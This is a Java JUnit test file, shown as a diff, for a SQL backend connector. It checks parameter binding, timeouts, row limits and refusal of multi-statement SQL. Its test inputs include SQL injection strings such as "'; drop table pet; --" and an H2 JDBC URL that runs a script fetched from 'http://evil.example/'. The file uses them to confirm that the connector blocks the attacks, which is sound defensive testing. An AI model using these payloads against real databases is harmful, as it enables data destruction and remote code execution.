@@ -1,0 +1,230 @@
+package org.sallyport.connector.sql;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+import io.zonky.test.db.postgres.embedded.EmbeddedPostgres;
+import java.io.IOException;
+import java.sql.Connection;
+import java.sql.DriverManager;
+import java.sql.SQLException;
+import java.sql.Statement;
+import java.util.List;
+import java.util.Objects;
+import java.util.Optional;
+import java.util.UUID;
+import java.util.concurrent.CompletableFuture;
+import java.util.concurrent.ExecutionException;
+import java.util.concurrent.ExecutorService;
+import java.util.concurrent.Executors;
+import java.util.concurrent.TimeUnit;
+import java.util.concurrent.TimeoutException;
+import java.util.concurrent.atomic.AtomicLong;
+import org.jspecify.annotations.Nullable;
+import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.ValueSource;
+import org.sallyport.catalog.BackendDefinition;
+import org.sallyport.catalog.BackendStatus;
+import org.sallyport.catalog.ToolDefinition;
+import org.sallyport.connector.BackendSettings;
+import org.sallyport.connector.InvalidBackendException;
+import org.sallyport.connector.LiveBackend;
+import org.sallyport.connector.MemoryVault;
+import org.sallyport.tool.CallId;
+import org.sallyport.tool.Json;
+import org.sallyport.tool.ToolErrorCode;
+import org.sallyport.tool.ToolHints;
+import org.sallyport.tool.ToolResult;
+
+/** Statements on both databases. */
+class SqlBackendTest {
+    private static EmbeddedPostgres postgres;
+    private final ExecutorService executor = Executors.newCachedThreadPool();
+    private final AtomicLong calls = new AtomicLong();
+    private final CompletableFuture<List<ToolDefinition>> tools = new CompletableFuture<>();
+    private final CompletableFuture<BackendStatus.State> state = new CompletableFuture<>();
+    private @Nullable LiveBackend backend;
+
+    @BeforeAll
+    static void start() throws IOException {
+        postgres = EmbeddedPostgres.builder().start();
+    }
+
+    @AfterAll
+    static void stop() throws IOException {
+        postgres.close();
+    }
+
+    @AfterEach
+    void end() {
+        if (backend != null) {
+            backend.close();
+        }
+        executor.shutdown();
+    }
+
+    private static BackendDefinition definition(String settings, BackendDefinition.Origin origin) {
+        return new BackendDefinition("db", "sql", new Json(settings), true, origin, "1");
+    }
+
+    private SqlStatements kind() {
+        return new SqlStatements(executor, MemoryVault.ACCESS);
+    }
+
+    private void open(String database) throws SQLException, InterruptedException, ExecutionException, TimeoutException {
+        String url = database.equals("h2")
+                ? "jdbc:h2:mem:" + UUID.randomUUID() + ";DB_CLOSE_DELAY=-1"
+                : postgres.getJdbcUrl("postgres", "postgres");
+        try (Connection connection = DriverManager.getConnection(url);
+                Statement statement = connection.createStatement()) {
+            statement.execute("drop table if exists pet");
+            statement.execute("create table pet (id integer primary key, name varchar(40) unique, fee numeric(10,2),"
+                    + " born date, seen timestamp(3) with time zone, tame boolean)");
+            statement.execute(
+                    "insert into pet values (1, 'Rex', 1.50, '2020-02-29', '2026-01-01 10:00:00.5+02', true)");
+            statement.execute("insert into pet (id, name) values (2, 'Bo')");
+        }
+        BackendDefinition definition = definition(
+                """
+                {"url":"%s","timeoutMillis":2000,"maxRows":50,"statements":{
+                  "find":{"sql":"select * from pet where name = :name or born > cast(:since as date) order by id -- :not one",
+                    "parameters":{"since":{"type":"string"}}},
+                  "rename":{"sql":"update pet set name = :name where id = :id;","writes":true,"idempotent":true},
+                  "sneaky":{"sql":"update pet set name = 'gone ?; :x' where id = 1"},
+                  "slow":{"sql":"%s"},
+                  "many":{"sql":"%s"}}}
+                """.formatted(
+                                url,
+                                database.equals("h2")
+                                        ? "select count(*) from system_range(1, 1000000) a, system_range(1, 1000000) b"
+                                        : "select pg_sleep(30)::text",
+                                database.equals("h2")
+                                        ? "select x from system_range(1, 51)"
+                                        : "select x from generate_series(1, 51) x"),
+                BackendDefinition.Origin.FILE);
+        kind().check(BackendSettings.of(definition));
+        LiveBackend opened = kind().open(definition, new LiveBackend.Listener() {
+            @Override
+            public void state(BackendStatus.State now, Optional<String> error) {
+                state.complete(now);
+            }
+
+            @Override
+            public void tools(List<ToolDefinition> declared) {
+                tools.complete(declared);
+            }
+        });
+        backend = opened;
+        opened.start();
+        assertThat(state.get(30, TimeUnit.SECONDS)).isEqualTo(BackendStatus.State.READY);
+    }
+
+    private ToolResult call(String tool, String arguments) {
+        try {
+            return Objects.requireNonNull(backend)
+                    .call(new LiveBackend.Call(
+                            new CallId("e", calls.incrementAndGet()), tool, new Json(arguments), false))
+                    .toCompletableFuture()
+                    .get(20, TimeUnit.SECONDS);
+        } catch (InterruptedException | ExecutionException | TimeoutException e) {
+            throw new AssertionError(e);
+        }
+    }
+
+    private String value(String tool, String arguments) {
+        ToolResult result = call(tool, arguments);
+        if (result instanceof ToolResult.Success success) {
+            return success.value().text();
+        }
+        throw new AssertionError(result);
+    }
+
+    private ToolErrorCode code(String tool, String arguments) {
+        ToolResult result = call(tool, arguments);
+        if (result instanceof ToolResult.Failure failure) {
+            return failure.error().code();
+        }
+        throw new AssertionError(result);
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"h2", "postgresql"})
+    void statementsReadAndWriteWithBoundArguments(String database) throws Exception {
+        open(database);
+        assertThat(value("find", "{\"name\":\"Rex\",\"since\":null}").toLowerCase(java.util.Locale.ROOT))
+                .isEqualTo("[{\"id\":1,\"name\":\"rex\",\"fee\":1.50,\"born\":\"2020-02-29\","
+                        + "\"seen\":\"2026-01-01t08:00:00.500z\",\"tame\":true}]");
+        assertThat(value("find", "{\"name\":\"x' or 'a'='a\",\"since\":\"2026-01-01\"}"))
+                .isEqualTo("[]");
+        assertThat(value("rename", "{\"id\":2,\"name\":\"'; drop table pet; --\"}"))
+                .isEqualTo("{\"updated\":1}");
+        assertThat(value("find", "{\"name\":\"'; drop table pet; --\",\"since\":null}"))
+                .contains("drop table");
+        ToolResult twice = call("rename", "{\"id\":2,\"name\":\"Rex\"}");
+        assertThat(twice).asString().contains("TOOL_FAILED", "23505");
+        assertThat(tools.join())
+                .filteredOn(tool -> tool.name().equals("find"))
+                .singleElement()
+                .satisfies(tool -> {
+                    assertThat(tool.hints()).isEqualTo(ToolHints.READ_ONLY);
+                    assertThat(tool.inputSchema().text())
+                            .contains("\"since\":{\"type\":\"string\"}", "\"required\":[\"name\",\"since\"]");
+                });
+        assertThat(tools.join())
+                .filteredOn(tool -> tool.name().equals("rename"))
+                .singleElement()
+                .satisfies(tool -> assertThat(tool.hints()).isEqualTo(ToolHints.IDEMPOTENT));
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"h2", "postgresql"})
+    void whatOnlyReadsChangesNothing(String database) throws Exception {
+        open(database);
+        call("sneaky", "{}");
+        assertThat(value("find", "{\"name\":\"Rex\",\"since\":null}")).contains("Rex");
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"h2", "postgresql"})
+    void whatIsTooLongOrTooMuchIsEnded(String database) throws Exception {
+        open(database);
+        assertThat(code("slow", "{}")).isEqualTo(ToolErrorCode.TIMEOUT);
+        assertThat(code("many", "{}")).isEqualTo(ToolErrorCode.TOO_LARGE);
+        assertThat(value("find", "{\"name\":\"Bo\",\"since\":null}")).contains("Bo");
+    }
+
+    @Test
+    void overRestNobodyConfiguresADatabase() {
+        BackendDefinition sent = definition(
+                "{\"url\":\"jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/'\",\"statements\":{\"a\":{\"sql\":\"select 1\"}}}",
+                BackendDefinition.Origin.API);
+        assertThatThrownBy(() -> kind().check(BackendSettings.of(sent)))
+                .isInstanceOf(InvalidBackendException.class)
+                .hasMessageContaining("installation's file alone");
+    }
+
+    @ParameterizedTest
+    @CsvSource(
+            delimiter = '§',
+            quoteCharacter = '`',
+            value = {
+                "select :a, ':b', \":c\", d::text -- :e § select ?, ':b', \":c\", d::text -- :e § a",
+                "select /* :x */ 'it''s :y' || :a || :b || :a; § select /* :x */ 'it''s :y' || ? || ? || ? § a,b,a",
+                "select $$ :x ; ? $$, $t$ :y $$ $t$, :z § select $$ :x ; ? $$, $t$ :y $$ $t$, ? § z",
+            })
+    void onlyWhatIsAnArgumentIsBound(String written, String sql, String parameters) {
+        assertThat(NamedStatement.parse(written))
+                .contains(new NamedStatement.Parsed(sql, List.of(parameters.split(",", -1))));
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"select 1; drop table pet", "select * from pet where id = ?"})
+    void severalStatementsOrNamelessPlacesAreRefused(String written) {
+        assertThat(NamedStatement.parse(written)).isEmpty();
+    }
+}
